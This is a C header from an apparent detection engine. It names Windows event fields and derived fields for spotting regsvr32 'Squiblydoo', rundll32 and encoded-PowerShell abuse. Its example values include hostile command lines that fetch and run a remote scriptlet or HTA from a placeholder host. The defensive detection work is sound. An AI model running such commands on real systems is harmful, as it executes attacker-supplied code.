/* Names of event fields, and their numbers.
 *
 * A few dozen canonical names (Sigma's, which are Sysmon's) have fixed numbers, and so have the
 * derived ones, which no producer sends: lib/derive makes them of the others. A rule set adds the
 * names it asks for; every other name of an event is of no interest and is not kept.
 */
#pragma once

#include "lib/base/err.h"

/* clang-format off */
/* X(enumerator, name) */
#define SQ_FIELDS(X)                                  \
	X(EVENT_ID,            "EventID")             \
	X(CHANNEL,             "Channel")             \
	X(PROVIDER,            "Provider_Name")       \
	X(COMPUTER,            "Computer")            \
	X(RECORD_ID,           "EventRecordID")       \
	X(TIME,                "TimeCreated")         \
	X(MESSAGE,             "Message")             \
	X(IMAGE,               "Image")               \
	X(COMMAND_LINE,        "CommandLine")         \
	X(PARENT_IMAGE,        "ParentImage")         \
	X(PARENT_COMMAND_LINE, "ParentCommandLine")   \
	X(ORIGINAL_FILE_NAME,  "OriginalFileName")    \
	X(DESCRIPTION,         "Description")         \
	X(PRODUCT,             "Product")             \
	X(COMPANY,             "Company")             \
	X(USER,                "User")                \
	X(PARENT_USER,         "ParentUser")          \
	X(HASHES,              "Hashes")              \
	X(INTEGRITY_LEVEL,     "IntegrityLevel")      \
	X(CURRENT_DIRECTORY,   "CurrentDirectory")    \
	X(PROCESS_ID,          "ProcessId")           \
	X(PARENT_PROCESS_ID,   "ParentProcessId")     \
	X(PROCESS_GUID,        "ProcessGuid")         \
	X(PARENT_PROCESS_GUID, "ParentProcessGuid")   \
	X(LOGON_ID,            "LogonId")             \
	X(NEW_PROCESS_ID,      "NewProcessId")        \
	X(NEW_PROCESS_NAME,    "NewProcessName")      \
	X(PARENT_PROCESS_NAME, "ParentProcessName")   \
	X(MANDATORY_LABEL,     "MandatoryLabel")      \
	X(SUBJECT_USER_NAME,   "SubjectUserName")     \
	X(SUBJECT_DOMAIN_NAME, "SubjectDomainName")   \
	X(SUBJECT_LOGON_ID,    "SubjectLogonId")      \
	X(TARGET_USER_NAME,    "TargetUserName")      \
	X(TARGET_DOMAIN_NAME,  "TargetDomainName")    \
	X(UTC_TIME,            "UtcTime")             \
	X(EVENT_TYPE,          "EventType")           \
	X(PROCESS_NAME,        "ProcessName")         \
	X(SCRIPT_BLOCK_TEXT,   "ScriptBlockText")     \
	X(TASK_CONTENT,        "TaskContent")         \
	X(TASK_CONTENT_NEW,    "TaskContentNew")      \
	X(SERVICE_FILE_NAME,   "ServiceFileName")     \
	X(IMAGE_PATH,          "ImagePath")           \
	X(DETAILS,             "Details")             \
	X(NEW_VALUE,           "NewValue")            \
	X(DESTINATION,         "Destination")         \
	X(POSSIBLE_CAUSE,      "PossibleCause")       \
	X(HOST_APPLICATION,    "HostApplication")     \
	X(CONTEXT_INFO,        "ContextInfo")         \
	X(PAYLOAD,             "Payload")             \
	X(APPLICATION,         "Application")

/* X(enumerator, name, what it says, example) */
#define SQ_DERIVED(X) \
	SQ_DERIVED_PROCESS(X) \
	SQ_DERIVED_STORED(X)

/* Those that the start of a process may have. */
#define SQ_DERIVED_PROCESS(X) \
	X(LINE, "squibly.command_line", \
	  "CommandLine folded: lower case, quotes, carets and hidden characters resolved, one blank between tokens", \
	  "regsvr32 /s /i:http://h/a.sct scrobj.dll") \
	X(ARGUMENT, "squibly.argument", \
	  "Each argument of the folded command line, the program's own name left out", \
	  "/i:http://h/a.sct") \
	X(ARGUMENT_COUNT, "squibly.argument_count", \
	  "How many arguments there are; absent when the event has no command line", \
	  "2") \
	X(ARGUMENT_PLACE, "squibly.argument_place", \
	  "Place class of each path or URL among the arguments of a program that runs what it is given (msiexec, mshta, odbcconf ...)", \
	  "user_writable") \
	X(PATH, "squibly.image", \
	  "Image with its path folded", \
	  "c:\\windows\\system32\\regsvr32.exe") \
	X(NAME, "squibly.image_name", \
	  "Last component of squibly.image", \
	  "regsvr32.exe") \
	X(PLACE, "squibly.image_place", \
	  "Place class of squibly.image", \
	  "system") \
	X(PROGRAM, "squibly.program", \
	  "Which program it really is: by OriginalFileName, Description or IMPHASH, else squibly.image_name", \
	  "regsvr32.exe") \
	X(RENAMED, "squibly.renamed", \
	  "true when squibly.program is known not to be the name of the image", \
	  "true") \
	X(MOVED, "squibly.moved", \
	  "true when a program of Windows runs outside the folders that Windows keeps it in", \
	  "true") \
	X(PARENT_NAME, "squibly.parent_name", \
	  "Last component of ParentImage, folded", \
	  "winword.exe") \
	X(PARENT_PLACE, "squibly.parent_place", \
	  "Place class of ParentImage", \
	  "program_files") \
	X(TRICK, "squibly.trick", \
	  "Each means of hiding that was met on the way", \
	  "split_quotes") \
	X(RS_SWITCH, "squibly.regsvr32.switch", \
	  "Each switch of regsvr32 once, by its first letter", \
	  "u") \
	X(RS_INSTALL, "squibly.regsvr32.install", \
	  "The value of the switch /i, which goes to DllInstall, folded", \
	  "http://h/a.sct") \
	X(RS_INSTALL_CLASS, "squibly.regsvr32.install_class", \
	  "What that value is: none, empty, url, unc, webdav, loopback, path, payload, text; payload may stand beside another", \
	  "url") \
	X(RS_INSTALL_PLACE, "squibly.regsvr32.install_place", \
	  "Place class of that value when it is a path", \
	  "user_writable") \
	X(RS_LIBRARY, "squibly.regsvr32.library", \
	  "Each library that regsvr32 is to load, its path folded", \
	  "c:\\users\\public\\a.dll") \
	X(RS_LIBRARY_NAME, "squibly.regsvr32.library_name", \
	  "Last component of each library without a final .dll", \
	  "scrobj") \
	X(RS_LIBRARY_PLACE, "squibly.regsvr32.library_place", \
	  "Place class of each library", \
	  "user_writable") \
	X(RS_LIBRARY_EXTENSION, "squibly.regsvr32.library_extension", \
	  "Extension of each library; none when it has no extension", \
	  "jpg") \
	X(RS_LAWFUL, "squibly.regsvr32.lawful", \
	  "true when there are libraries and all of them lie in Program Files, a folder of Windows or a known vendor's", \
	  "true") \
	X(RS_SCROBJ, "squibly.regsvr32.scrobj", \
	  "true when one of the libraries is scrobj.dll, the engine of scriptlets", \
	  "true") \
	X(RS_SHAPE, "squibly.regsvr32.shape", \
	  "true when the arguments of any program look like those of Squiblydoo", \
	  "true") \
	X(RS_WEAK_SHAPE, "squibly.regsvr32.weak_shape", \
	  "true when any program has only arguments that regsvr32 would take: single letters s, u, n, i and libraries", \
	  "true") \
	X(LAUNCH_COMMAND, "squibly.launch.command", \
	  "The text in which a launcher or a stored command names regsvr32 or its arguments, folded as its shell would", \
	  "regsvr32 /s /i:http://h/a.sct scrobj.dll") \
	X(LAUNCH_CARRIES, "squibly.launch.carries", \
	  "What such a text carries", \
	  "regsvr32_url") \
	X(RD_LIBRARY, "squibly.rundll32.library", \
	  "The library that rundll32 is to load, its path folded", \
	  "c:\\windows\\system32\\shell32.dll") \
	X(RD_LIBRARY_NAME, "squibly.rundll32.library_name", \
	  "Last component of that library without a final .dll", \
	  "shell32") \
	X(RD_LIBRARY_PLACE, "squibly.rundll32.library_place", \
	  "Place class of that library", \
	  "bare_system") \
	X(RD_ENTRY, "squibly.rundll32.entry", \
	  "The function that rundll32 is to call, or #N", \
	  "control_rundll") \
	X(RD_ARGUMENT, "squibly.rundll32.argument", \
	  "What rundll32 hands to that function, folded", \
	  "desk.cpl") \
	X(ENCODED_COMMAND, "squibly.encoded.command", \
	  "What PowerShell is given in Base64 (-EncodedCommand), by a command line or a stored command, decoded and folded", \
	  "regsvr32 /s /i:http://h/a.sct scrobj.dll") \
	X(ENCODED_CARRIES, "squibly.encoded.carries", \
	  "What that carries, as squibly.launch.carries says it", \
	  "regsvr32_url")

/* Those of an event that holds a command for later alone. */
#define SQ_DERIVED_STORED(X) \
	X(STORED_COMMAND, "squibly.stored.command", \
	  "Each command that a task, service, registry value or WMI consumer holds for later, folded, without what shells take away", \
	  "mshta http://h/a.hta")
/* clang-format on */

enum sq_field {
#define SQ_FIELD_ENUM(id, name) SQ_F_##id,
	SQ_FIELDS(SQ_FIELD_ENUM)
#undef SQ_FIELD_ENUM
		SQ_F_PRODUCED, /* how many producers send; derived ones follow */
	SQ_F_PRODUCED_LAST = SQ_F_PRODUCED - 1,
#define SQ_FIELD_ENUM(id, name, says, example) SQ_F_D_##id,
	SQ_DERIVED(SQ_FIELD_ENUM)
#undef SQ_FIELD_ENUM
		SQ_F_CANONICAL /* how many; numbers from here on are a rule set's own */
};

/** A field that lib/derive makes; what a record says under its name is not believed. */
static inline bool sq_field_is_derived(uint32_t number)
{
	return number >= SQ_F_PRODUCED && number < SQ_F_CANONICAL;
}

enum { SQ_FIELDS_MAX = 1024 };

struct sq_fields;

/** A set that holds the canonical names. NULL: out of memory. */
struct sq_fields *sq_fields_new(void);
void sq_fields_free(struct sq_fields *f);

/** Number of `name` (case counts), added when it is new.
 *  @return number, -ENOSPC over SQ_FIELDS_MAX, -ENOMEM */
int sq_fields_add(struct sq_fields *f, struct sq_sv name) SQ_MUST_CHECK;

/** Number of `name`, or -1. */
int sq_fields_find(const struct sq_fields *f, struct sq_sv name);

/** How many there are; the name of one below that, which lives as long as `f`. */
uint32_t sq_fields_count(const struct sq_fields *f);
struct sq_sv sq_fields_name(const struct sq_fields *f, uint32_t number);
